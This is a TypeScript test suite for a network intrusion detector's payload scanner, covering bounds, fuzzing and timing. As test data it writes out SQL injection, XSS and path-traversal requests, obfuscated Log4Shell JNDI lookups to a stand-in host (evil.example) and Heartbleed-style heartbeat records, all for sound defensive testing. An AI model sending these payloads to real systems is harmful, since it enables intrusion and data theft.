/**
 * Payload tells under hostile input: inspectTcpPayload reads only buf[off, off + captured), never
 * throws, returns only defined TELL_* bits, depends on nothing but those bytes (no state left over
 * from an earlier segment), and stays linear on pathological requests.
 *
 * - Bounds: crafted segments whose attack bytes lie just past `captured` (and junk before `off`), read
 *   through a Proxy that records every index read, and compared with the same bytes alone at offset 0.
 * - Fuzz: 200 000 random and mutated segments (seeded mulberry32; DEEPMAD_FUZZ_SEED to vary,
 *   DEEPMAD_FUZZ_CASES to run more or fewer).
 * - Pathological inputs: each run many times within a generous bound that a quadratic scan would blow.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import {
  TELL_HTTP_SQLI, TELL_HTTP_TRAVERSAL, TELL_HTTP_XSS, TELL_JNDI, TELL_RFB_AUTH_FAILED, TELL_RFB_V37,
  TELL_TLS_CCS, TELL_TLS_HANDSHAKE, TELL_TLS_HEARTBEAT_OVERRUN,
  inspectTcpPayload,
} from '../../lib/capture/payload-tells.js';
import { Random } from '../../lib/ml/random.js';

const HS = TELL_TLS_HANDSHAKE, CCS = TELL_TLS_CCS, OVERRUN = TELL_TLS_HEARTBEAT_OVERRUN;
const SQLI = TELL_HTTP_SQLI, XSS = TELL_HTTP_XSS, TRAV = TELL_HTTP_TRAVERSAL, JNDI = TELL_JNDI;
const V37 = TELL_RFB_V37, FAILED = TELL_RFB_AUTH_FAILED;
/** Every defined TELL_* bit. */
const ALL_TELLS = HS | CCS | OVERRUN | SQLI | XSS | TRAV | JNDI | V37 | FAILED;

type Part = string | readonly number[] | Uint8Array;
/** Bytes of strings (latin1) and byte lists, concatenated. */
function bytes(...parts: Part[]): Uint8Array {
  return new Uint8Array(Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p)))));
}
const u16 = (n: number): number[] => [n >>> 8, n & 255];
/** A TLS record header: content type, version 3.minor, length. */
const rec = (type: number, len: number, minor = 3): number[] => [type, 3, minor, ...u16(len)];
const clientHello = bytes(rec(22, 47, 1), [1, 0, 0, 43, 3, 3], new Uint8Array(32).fill(7), [0, 0, 2, 0x13, 1, 1, 0, 0, 0]);

/**
 * `buf` behind a Proxy that records the lowest and highest index read (typed-array methods still
 * work: they are bound to the real array). The tells code only indexes `buf`.
 */
function watched(buf: Uint8Array): { buf: Uint8Array; reads: { min: number; max: number; count: number } } {
  const reads = { min: Infinity, max: -Infinity, count: 0 };
  const proxy = new Proxy(buf, {
    get(target, prop) {
      if (typeof prop === 'string' && /^-?\d+$/.test(prop)) {
        const i = Number(prop);
        reads.count++;
        if (i < reads.min) reads.min = i;
        if (i > reads.max) reads.max = i;
        return target[i];
      }
      const v = Reflect.get(target, prop, target) as unknown;
      return typeof v === 'function' ? (v as (...a: unknown[]) => unknown).bind(target) : v;
    },
  });
  return { buf: proxy, reads };
}

/** What may sit before `off`: attack text, the header end, lookup starts, NULs, 0xff. */
const BEFORE: Uint8Array[] = [
  bytes("' or '1'='1 ${jndi:x} ../../etc/passwd <script>"),
  bytes('\r\n\r\n${${jndi:ldap://x}}%27%20or%201=1--'),
  new Uint8Array(40),
  new Uint8Array(40).fill(0xff),
  bytes('{{{{{{{{{{{{{{{{{{{{$$$$$$$$$$$$$$$$$$$$'),
];
const OFFSETS = [1, 2, 3, 5, 8, 13, 17];

/**
 * `full[0, cap)` is what was captured; `full[cap…]` (the attack) follows it in memory. For several
 * prefixes and offsets: the bytes read lie in [off, off + cap), and the result is that of the
 * captured bytes alone, which must be `expected`. Returns nothing; asserts.
 */
function checkCut(name: string, full: Uint8Array, cap: number, expected: number, payloadLen = full.length): void {
  assert.ok(cap <= full.length && payloadLen >= cap, name);
  const alone = full.slice(0, cap);
  assert.equal(inspectTcpPayload(alone, 0, cap, payloadLen), expected, `${name}: the captured bytes alone`);
  for (const before of BEFORE) {
    for (const off of OFFSETS) {
      const buf = bytes(before.subarray(before.length - off), full, before);
      const w = watched(buf);
      const got = inspectTcpPayload(w.buf, off, cap, payloadLen);
      assert.equal(got, expected, `${name}: off ${off}, before ${JSON.stringify(Buffer.from(before.subarray(0, 8)).toString('latin1'))}`);
      if (w.reads.count > 0) {
        assert.ok(w.reads.min >= off, `${name}: read index ${w.reads.min} before off ${off}`);
        assert.ok(w.reads.max < off + cap, `${name}: read index ${w.reads.max} at or past off + captured = ${off + cap}`);
      }
    }
  }
}

/** `head` captured, `tail` (the attack) right after it; `fires` = the tells of head + tail whole, to show the tail is a real attack. */
function cutCase(name: string, head: Part, tail: Part, expected: number, fires: number, payloadLen?: number): void {
  const h = bytes(head), full = bytes(head, tail);
  assert.equal(inspectTcpPayload(full, 0, full.length, payloadLen ?? full.length), fires, `${name}: the whole segment`);
  checkCut(name, full, h.length, expected, payloadLen);
}

const HOST = 'Host: dvwa.example\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:45.0) Gecko/20100101 Firefox/45.0\r\n';

test('bounds: HTTP attack text just past the captured bytes is never read', () => {
  cutCase('GET quote tautology', 'GET /dvwa/vulnerabilities/sqli/?id=1', `'+or+'1'='1&Submit=Submit HTTP/1.1\r\n${HOST}\r\n`, 0, SQLI);
  cutCase('GET quote cut after the quote', "GET /?id=1'", `+or+'1'='1 HTTP/1.1\r\n${HOST}\r\n`, 0, SQLI);
  cutCase('GET percent escape cut after %', 'GET /?id=1%', `27+or+%271%27%3D%271 HTTP/1.1\r\n${HOST}\r\n`, 0, SQLI);
  cutCase('GET percent escape cut after %2', 'GET /?id=1%2', `7+or+%271%27%3D%271 HTTP/1.1\r\n${HOST}\r\n`, 0, SQLI);
  cutCase('GET union select cut inside select', 'GET /?id=1+union+sel', `ect+null,version() HTTP/1.1\r\n${HOST}\r\n`, 0, SQLI);
  cutCase('GET union cut before its space', 'GET /?id=1+union', `+select+1 HTTP/1.1\r\n\r\n`, 0, SQLI);
  cutCase('GET numeric boolean cut before the second number', 'GET /?id=1+AND+5213=', `5214 HTTP/1.1\r\n\r\n`, 0, SQLI);
  cutCase('GET sleep cut before (', 'GET /?id=1+and+sleep', `(5) HTTP/1.1\r\n\r\n`, 0, SQLI);
  cutCase('GET quote then -- cut', "GET /?id=1'+-", `- HTTP/1.1\r\n\r\n`, 0, SQLI);
  cutCase('GET stacked statement cut', "GET /?id=1';+DROP", `+TABLE+users HTTP/1.1\r\n\r\n`, 0, SQLI);
  cutCase('GET script tag cut', 'GET /xss?name=<scr', `ipt>alert(1)</script> HTTP/1.1\r\n\r\n`, 0, XSS);
  cutCase('GET event handler cut before =', 'GET /?q=<img+src=x+onerror', `=alert(1)> HTTP/1.1\r\n\r\n`, 0, XSS);
  cutCase('GET javascript: cut', 'GET /?u=javascript', `:alert(1) HTTP/1.1\r\n\r\n`, 0, XSS);
  cutCase('GET traversal cut after ../..', 'GET /static/../..', `/../etc/passwd HTTP/1.1\r\n\r\n`, 0, TRAV);
  cutCase('GET /etc/passw cut', 'GET /download?f=/etc/passw', `d HTTP/1.1\r\n\r\n`, 0, TRAV);
  cutCase('GET path traversal right after the method', 'GET ', '/../../../etc/passwd HTTP/1.1\r\n\r\n', 0, TRAV);
  cutCase('GET method cut', 'GE', 'T /../../../etc/passwd HTTP/1.1\r\n\r\n', 0, TRAV);
  cutCase('GET method cut before its space', 'GET', ' /../../../etc/passwd HTTP/1.1\r\n\r\n', 0, TRAV);
  cutCase('HEAD with only the method captured', 'HEAD ', '/../../etc/passwd HTTP/1.1\r\n\r\n', 0, TRAV);
  cutCase('DELETE method cut', 'DELET', 'E /../../etc/passwd HTTP/1.1\r\n\r\n', 0, TRAV);
  cutCase('OPTIONS method cut', 'OPTIONS', ' /../../etc/passwd HTTP/1.1\r\n\r\n', 0, TRAV);
  cutCase('PATCH method cut', 'PATC', 'H /../../etc/passwd HTTP/1.1\r\n\r\n', 0, TRAV);
  cutCase('PUT method only', 'PUT', ' /../../etc/passwd HTTP/1.1\r\n\r\n', 0, TRAV);
  cutCase('POST method cut', 'POS', 'T /../../etc/passwd HTTP/1.1\r\n\r\n', 0, TRAV);
  // the body: attack after the captured end, or the header end itself cut
  const head = `POST /dvwa/vulnerabilities/sqli/ HTTP/1.1\r\n${HOST}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 37\r\n`;
  cutCase('POST body cut before the quote', `${head}\r\nid=1`, "'+or+'1'='1&Submit=Submit", 0, SQLI);
  cutCase('POST header end cut after \\r\\n\\r', `${head}\r`, "\nid=1'+or+'1'='1&Submit=Submit", 0, SQLI);
  cutCase('POST header end cut after \\r', head.slice(0, -1), "\n\r\nid=1'+or+'1'='1", 0, SQLI);
  cutCase('POST header end complete, body not captured', `${head}\r\n`, "id=1'+or+'1'='1", 0, SQLI);
  cutCase('POST body <script cut', `${head}\r\nname=<scrip`, 't>alert(1)</script>', 0, XSS);
  // a flagged part captured, a second attack past the end: only the first
  cutCase('GET traversal captured, jndi past the end', 'GET /../../etc/passwd HTTP/1.1\r\nX: ', '${jndi:ldap://x/a}\r\n\r\n', TRAV, TRAV | JNDI);
});

test('bounds: `${jndi:` right after the captured end is never read', () => {
  const req = `GET / HTTP/1.1\r\n${HOST}X-Api-Version: `;
  cutCase('header, lookup entirely past the end', req, '${jndi:ldap://evil.example:1389/a}\r\n\r\n', 0, JNDI);
  cutCase('header, cut after $', `${req}$`, '{jndi:ldap://evil.example/a}\r\n\r\n', 0, JNDI);
  cutCase('header, cut after ${', `${req}\${`, 'jndi:ldap://evil.example/a}\r\n\r\n', 0, JNDI);
  cutCase('header, cut after ${jndi', `${req}\${jndi`, ':ldap://evil.example/a}\r\n\r\n', 0, JNDI);
  cutCase('header, cut after ${jnd (odd length)', `${req}x\${jnd`, 'i:ldap://evil.example/a}\r\n\r\n', 0, JNDI);
  cutCase('header, nested lookup cut after ${', `${req}\${`, '${lower:j}ndi:ldap://x/a}\r\n\r\n', 0, JNDI);
  cutCase('header, obfuscation cut inside lower', `${req}\${a:\${low`, 'er:j}ndi:ldap://x/a}\r\n\r\n', 0, JNDI);
  cutCase('path, cut after $', 'GET /$', '{jndi:ldap://x/a} HTTP/1.1\r\n\r\n', 0, JNDI);
  cutCase('path, cut after ${jndi', 'GET /${jndi', ':ldap://x/a} HTTP/1.1\r\n\r\n', 0, JNDI);
  cutCase('query, encoded lookup cut after %24%7B', 'GET /?q=%24%7B', 'jndi%3Aldap%3A%2F%2Fx%2Fa%7D HTTP/1.1\r\n\r\n', 0, JNDI);
  cutCase('query, encoded lookup cut after %24%7', 'GET /?q=%24%7', 'Bjndi%3Aldap%3A%2F%2Fx%2Fa%7D HTTP/1.1\r\n\r\n', 0, JNDI);
  cutCase('body, cut after ${', `POST /login HTTP/1.1\r\n${HOST}\r\nuser=\${`, 'jndi:ldap://x/a}&pass=x', 0, JNDI);
  // every cut point inside the lookup, both byte alignments of the header
  for (const pad of ['', 'x']) {
    const whole = `${req}${pad}\${jndi:ldap://x/a}\r\n\r\n`;
    const at = whole.indexOf('${');
    for (let cap = at; cap < at + 7; cap++) checkCut(`jndi cut at ${cap - at}, pad '${pad}'`, bytes(whole), cap, 0);
    checkCut(`jndi complete, pad '${pad}'`, bytes(whole), at + 7, JNDI);
  }
});

test('bounds: TLS heartbeat bytes and record headers past the captured bytes are never read', () => {
  const hb = bytes(rec(24, 3, 2), [1, 0x40, 0x00]);
  for (let k = 0; k < hb.length; k++) {
    cutCase(`ClientHello + heartbeat, ${k} heartbeat bytes captured`, bytes(clientHello, hb.subarray(0, k)), hb.subarray(k), HS, HS | OVERRUN);
  }
  cutCase('heartbeat alone, header only', hb.subarray(0, 5), hb.subarray(5), 0, OVERRUN);
  cutCase('heartbeat alone, 7 bytes', hb.subarray(0, 7), hb.subarray(7), 0, OVERRUN);
  cutCase('heartbeat header cut', hb.subarray(0, 4), hb.subarray(4), 0, OVERRUN);
  // Zeek's heartbleed.pcap shape with the record's body on the wire but not captured
  cutCase('record 16368, 7 bytes captured', bytes(rec(24, 16368, 2), [1, 0x3f]), bytes([0xed], new Uint8Array(40)), 0, OVERRUN, 16373);
  cutCase('CCS after the captured end', clientHello, bytes(rec(20, 1), [1]), HS, HS | CCS);
  cutCase('handshake header cut', bytes([22, 3, 1, 0]), bytes([47], clientHello.subarray(5)), 0, HS);
  // a chain of records whose next header starts exactly at the captured end
  const chain = bytes(rec(22, 0), rec(22, 0), rec(23, 0));
  cutCase('empty records, heartbeat past the end', chain, hb, HS, HS | OVERRUN);
});

test('bounds: an RFB failure reason past the captured bytes is never read', () => {
  const reason = 'Authentication failed';
  const msg = bytes([0, 0, 0, 1], [0, 0, 0, reason.length], reason);
  const payloadLen = msg.length;
  // The bytes past the end are not printable: reading them would turn the tell off.
  const junk = bytes([0x00, 0x01, 0xff, 0x7f, 0x0a]);
  for (let cap = 0; cap <= msg.length; cap++) {
    const expected = cap < 8 ? 0 : FAILED;
    checkCut(`failure, ${cap} bytes captured, reason on the wire`, bytes(msg.subarray(0, cap), junk, msg.subarray(cap)), cap, expected, payloadLen);
  }
  // the 3.3-style bare u32 1: payloadLen 4
  checkCut('bare failure, 4 bytes', bytes([0, 0, 0, 1], junk), 4, FAILED, 4);
  checkCut('bare failure, 3 bytes', bytes([0, 0, 0, 1], junk), 3, 0, 4);
  // the banner cut: its newline past the end
  cutCase('RFB banner cut at 11 bytes', 'RFB 003.008', '\n', 0, V37, 12);
  cutCase('RFB banner cut at 10 bytes', 'RFB 003.00', '8\n', 0, V37, 12);
});

// ---------------------------------------------------------------- fuzz

/** mulberry32, the trainer's seeded PRNG, uniform in [0, 1). */
function mulberry32(seed: number): () => number {
  const r = new Random(seed);
  return () => r.next();
}

const FUZZ_SEED = Number(process.env.DEEPMAD_FUZZ_SEED ?? 20261127);
const FUZZ_CASES = Number(process.env.DEEPMAD_FUZZ_CASES ?? 200_000);

/** Real attack and benign segments to mutate. */
const TEMPLATES: Uint8Array[] = [
  `GET /dvwa/vulnerabilities/sqli/?id=%25%27+or+0%3D0+union+select+null%2C+version%28%29+%23&Submit=Submit HTTP/1.1\r\n${HOST}\r\n`,
  `GET /dvwa/vulnerabilities/xss_r/?name=%3Cscript%3Ealert(1)%3C%2Fscript%3E HTTP/1.1\r\n${HOST}\r\n`,
  `GET /../../../../etc/passwd HTTP/1.1\r\n${HOST}\r\n`,
  `GET / HTTP/1.1\r\n${HOST}X-Api-Version: \${jndi:\${lower:l}dap://x/a}\r\n\r\n`,
  `GET /?q=<img+src=x+onerror=alert(1)>&id=1+AND+5213=5214 HTTP/1.1\r\n\r\n`,
  `POST /dvwa/vulnerabilities/sqli/ HTTP/1.1\r\n${HOST}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 40\r\n\r\nid=1'+or+'1'='1&Submit=Submit`,
  `POST /login HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded\r\n\r\nuser=%24%7Bjndi%3Aldap%3A%2F%2Fx%7D&pass=1';+DROP+TABLE+users;+--`,
  `PUT /api/x HTTP/1.1\r\n\r\n{"a":"/*x*/1 or 1=1"}`,
  `PATCH /api/items/3 HTTP/1.1\r\nContent-Type: application/json\r\n\r\n{"name":"O'Reilly and sons"}`,
  `DELETE /items/..%2f..%2fboot.ini HTTP/1.1\r\n\r\n`,
  `OPTIONS * HTTP/1.1\r\n\r\n`,
  `HEAD /index.html?a=1&b=2 HTTP/1.1\r\n${HOST}\r\n`,
  `GET /search?q=rock+and+roll&page=2 HTTP/1.1\r\n${HOST}Accept: */*\r\n\r\n`,
  `GET /wiki/Main_Page HTTP/1.1\r\n${HOST}Cookie: a=b; c=d\r\n\r\n`,
  `HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<html><script>x</script></html>`,
  'RFB 003.008\n', 'RFB 003.889\n', 'RFB 003.003\n',
].map((s) => bytes(s));
TEMPLATES.push(
  clientHello,
  bytes(clientHello, rec(24, 3, 2), [1, 0x40, 0x00]),
  bytes(rec(24, 16368, 2), [1, 0x3f, 0xed]),
  bytes(rec(22, 4), [2, 0, 0, 0], rec(20, 1), [1], rec(22, 3), [9, 9, 9], rec(24, 3), [1, 0xff, 0xff]),
  bytes(rec(23, 20), new Uint8Array(20).fill(0x5a)),
  bytes([0, 0, 0, 1]),
  bytes([0, 0, 0, 1, 0, 0, 0, 21], 'Authentication failed'),
  bytes([0, 0, 0, 0]),
  bytes([0, 0, 0, 2, 0, 0, 0, 3], 'abc'),
);
/** Tokens that steer the scanners into their slower and rarer paths. */
const TOKENS: Uint8Array[] = [
  '%', '%2', '%27', '%24%7B', '${', '${${', '${jndi:', '${lower:', '}', "'", '"', ' or ', "' or '1'='1", '+and+1=1', ' AND 5=5',
  '/*', '*/', '--', '#', ';', '<', '<script', ' onerror=', '../', '..\\', '/etc/passwd', 'union select', '&', '=', '?', ' ',
  '\r\n', '\r\n\r\n', '\n', '+', '@@version', 'sleep(', 'GET ', 'POST ', 'HTTP/1.1',
].map((s) => bytes(s));
TOKENS.push(bytes([0]), bytes([0xff]), bytes(rec(24, 3)), bytes(rec(22, 0)), bytes([0, 0, 0, 1]));

/** A scratch buffer: the segment lies at `off`, random bytes before and after it. */
const SCRATCH = new Uint8Array(10_000 + 64 + 64);

interface FuzzCase { off: number; captured: number; payloadLen: number; length: number }

/** Writes one random or mutated segment into SCRATCH (at a random offset, random bytes around it). */
function makeCase(r: () => number): FuzzCase {
  const int = (n: number): number => Math.floor(r() * n);
  // lengths 0..9000, most of them short
  const kind = r();
  const length = kind < 0.6 ? int(400) : kind < 0.9 ? int(2500) : int(9001);
  const off = 1 + int(48);
  // bytes around the segment: random (what lies outside must not matter)
  for (let i = 0; i < off; i++) SCRATCH[i] = int(256);
  const seg = SCRATCH.subarray(off, off + length);
  const style = r();
  let n = 0;
  if (style < 0.1) {
    for (; n < length; n++) seg[n] = int(256); // random bytes
  } else {
    // a template, then tokens / template pieces / filler runs until the length is reached
    const t = TEMPLATES[int(TEMPLATES.length)];
    const firstCut = style < 0.55 ? t.length : int(t.length + 1);
    for (; n < length && n < firstCut; n++) seg[n] = t[n];
    while (n < length) {
      const what = r();
      let src: Uint8Array;
      if (what < 0.55) src = TOKENS[int(TOKENS.length)];
      else if (what < 0.7) { const u = TEMPLATES[int(TEMPLATES.length)]; const a = int(u.length); src = u.subarray(a, a + 1 + int(u.length - a)); }
      else if (what < 0.85) { const b = r() < 0.5 ? 0x61 + int(26) : int(256); src = new Uint8Array(1 + int(64)).fill(b); }
      else { const tok = TOKENS[int(TOKENS.length)]; const reps = 1 + int(200); src = new Uint8Array(tok.length * reps); for (let k = 0; k < reps; k++) src.set(tok, k * tok.length); }
      for (let k = 0; k < src.length && n < length; k++) seg[n++] = src[k];
    }
    // point mutations: byte flips, interesting bytes, a token written over
    const muts = int(8);
    for (let m = 0; m < muts && length > 0; m++) {
      const at = int(length);
      const op = int(4);
      if (op === 0) seg[at] ^= 1 << int(8);
      else if (op === 1) seg[at] = [0, 0x0d, 0x0a, 0x20, 0x24, 0x7b, 0x7d, 0x25, 0x27, 0x26, 0x3d, 0xff, 3, 24, 22, 20][int(16)];
      else if (op === 2) { const tok = TOKENS[int(TOKENS.length)]; for (let k = 0; k < tok.length && at + k < length; k++) seg[at + k] = tok[k]; }
      else if (length >= 5 && at + 5 <= length) { seg[at + 3] = int(256); seg[at + 4] = int(256); } // a length field
    }
  }
  for (let i = off + length; i < off + length + 64; i++) SCRATCH[i] = int(256);
  const c = r();
  const captured = c < 0.7 ? length : int(length + 1);
  const p = r();
  const payloadLen = p < 0.7 ? length : p < 0.85 ? captured : captured + int(20_000);
  return { off, captured, payloadLen: Math.max(payloadLen, captured), length };
}

const describeCase = (i: number, fc: FuzzCase): string =>
  `case ${i} (seed ${FUZZ_SEED}): off ${fc.off}, length ${fc.length}, captured ${fc.captured}, payloadLen ${fc.payloadLen}, ` +
  `bytes ${JSON.stringify(Buffer.from(SCRATCH.subarray(fc.off, fc.off + Math.min(fc.captured, 200))).toString('latin1'))}`;

test(`fuzz: ${FUZZ_CASES} random and mutated segments — no exception, only TELL bits, deterministic, only the captured bytes matter`, () => {
  const r = mulberry32(FUZZ_SEED);
  const seen = new Array<number>(9).fill(0);
  let prev: { copy: Uint8Array; captured: number; payloadLen: number; result: number } | null = null;
  for (let i = 0; i < FUZZ_CASES; i++) {
    const fc = makeCase(r);
    let a: number, b: number, alone: number;
    const copy = SCRATCH.slice(fc.off, fc.off + fc.captured);
    try {
      a = inspectTcpPayload(SCRATCH, fc.off, fc.captured, fc.payloadLen);
      b = inspectTcpPayload(SCRATCH, fc.off, fc.captured, fc.payloadLen);
      alone = inspectTcpPayload(copy, 0, fc.captured, fc.payloadLen);
    } catch (err) {
      assert.fail(`threw ${(err as Error).stack}\n${describeCase(i, fc)}`);
    }
    if (!(Number.isInteger(a) && a >= 0 && (a & ~ALL_TELLS) === 0)) assert.fail(`result ${a}\n${describeCase(i, fc)}`);
    if (b !== a) assert.fail(`second call ${b}, first ${a}\n${describeCase(i, fc)}`);
    if (alone !== a) assert.fail(`the captured bytes alone give ${alone}, in place ${a}\n${describeCase(i, fc)}`);
    // the previous segment again, after this one: no state carried from segment to segment
    if (prev) {
      const again = inspectTcpPayload(prev.copy, 0, prev.captured, prev.payloadLen);
      if (again !== prev.result) assert.fail(`case ${i - 1} gave ${prev.result}, then ${again} after case ${i}\n${describeCase(i, fc)}`);
    }
    prev = { copy, captured: fc.captured, payloadLen: fc.payloadLen, result: a };
    for (let k = 0; k < 9; k++) if (a & (1 << k)) seen[k]++;
  }
  // the fuzz reaches every rule (a coverage check of the generator, not of the rules)
  for (let k = 0; k < 9; k++) assert.ok(seen[k] > 0, `TELL bit ${k} never set in ${FUZZ_CASES} cases: ${seen.join(' ')}`);
});

// ---------------------------------------------------------------- pathological inputs

/** `reps` calls within `ms`: a linear scan of these sizes takes microseconds; a quadratic one seconds or minutes. */
function fast(name: string, seg: Uint8Array, expected: number, reps: number, ms = 1000): void {
  assert.equal(inspectTcpPayload(seg, 0, seg.length, seg.length), expected, name);
  const t0 = performance.now();
  for (let k = 0; k < reps; k++) inspectTcpPayload(seg, 0, seg.length, seg.length);
  const took = performance.now() - t0;
  assert.ok(took < ms, `${name}: ${reps} calls took ${took.toFixed(0)} ms (bound ${ms} ms)`);
}

const KB8 = 8192;
const rep = (s: string, n: number): string => s.repeat(Math.ceil(n / s.length)).slice(0, n);

test('pathological: 8 KB runs in the query, the path, a form body and a header stay linear (100 calls each < 1 s)', () => {
  const cases: Array<[string, string, number]> = [
    // [run, what, tells in a query value]
    ['%', 'percent signs', 0],
    ['%2', 'cut escapes', 0],
    ["'", 'quotes', 0],
    ["' or ", "' or", 0],
    ['${', 'lookup starts', JNDI], // ${${ is a nested lookup
    ['${${', 'nested lookup starts', JNDI],
    ['/*', 'comment starts', 0],
    ['union union union ', 'union', 0],
    ['< ', '< and spaces', 0],
  ];
  for (const [run, what, inQuery] of cases) {
    const body = rep(run.replace(/ /g, '+'), KB8);
    fast(`query: 8 KB of ${what}`, bytes(`GET /?q=${body} HTTP/1.1\r\n${HOST}\r\n`), inQuery, 100);
    fast(`path: 8 KB of ${what}`, bytes(`GET /${body} HTTP/1.1\r\n${HOST}\r\n`), inQuery, 100);
    fast(`form body: 8 KB of ${what}`, bytes(`POST /f HTTP/1.1\r\n${HOST}\r\nq=${rep(run, KB8)}`), inQuery, 100);
    fast(`header: 8 KB of ${what}`, bytes(`GET / HTTP/1.1\r\nX: ${rep(run, KB8)}\r\n\r\n`), run.includes('${') ? JNDI : 0, 100);
  }
  // raw spaces: the first one ends the target; in a form body each is a value byte
  fast('form body: < then 8 KB of spaces', bytes(`POST /f HTTP/1.1\r\n\r\nq=<${' '.repeat(KB8)}`), 0, 100);
  fast('form body: 8 KB of "< "', bytes(`POST /f HTTP/1.1\r\n\r\nq=${rep('< ', KB8)}`), 0, 100);
  fast('form body: 8 KB of "<+on"', bytes(`POST /f HTTP/1.1\r\n\r\nq=${rep('<+on', KB8)}`), 0, 100);
  fast('form body: 8 KB of "+and+1"', bytes(`POST /f HTTP/1.1\r\n\r\nq=${rep('+and+1', KB8)}`), 0, 100);
  fast('form body: 8 KB of "{"', bytes(`POST /f HTTP/1.1\r\n\r\nq=${rep('{', KB8)}`), 0, 100);
  fast('header: 8 KB of "{}"', bytes(`GET / HTTP/1.1\r\nX: ${rep('{}', KB8)}\r\n\r\n`), 0, 100);
});

test('pathological: 64 KB request line without a space, 64 KB body of &=&=, 9000 bytes of empty TLS records (20 calls each < 1 s)', () => {
  fast('64 KB request line', bytes(`GET /${'a'.repeat(65536)}`), 0, 20);
  fast('64 KB request line of $', bytes(`GET /${'$'.repeat(65536)}`), 0, 20);
  fast('64 KB request line of ${a', bytes(`GET /${rep('${a', 65536)}`), 0, 20);
  fast('64 KB body of &=&=', bytes(`POST /f HTTP/1.1\r\n\r\n${rep('&=', 65536)}`), 0, 20);
  fast('64 KB body of \\r\\n', bytes(`POST /f HTTP/1.1\r\n${rep('\r\n', 65536)}`), 0, 20);
  const tls = new Uint8Array(9000);
  for (let p = 0; p + 5 <= tls.length; p += 5) tls.set(rec(22, 0), p);
  fast('9000 bytes of 5-byte TLS handshake records', tls, HS, 20);
  const hb = new Uint8Array(9000);
  for (let p = 0; p + 5 <= hb.length; p += 5) hb.set(rec(p < 4500 ? 22 : 24, 0), p);
  fast('9000 bytes of empty handshake then heartbeat records', hb, HS, 20);
});
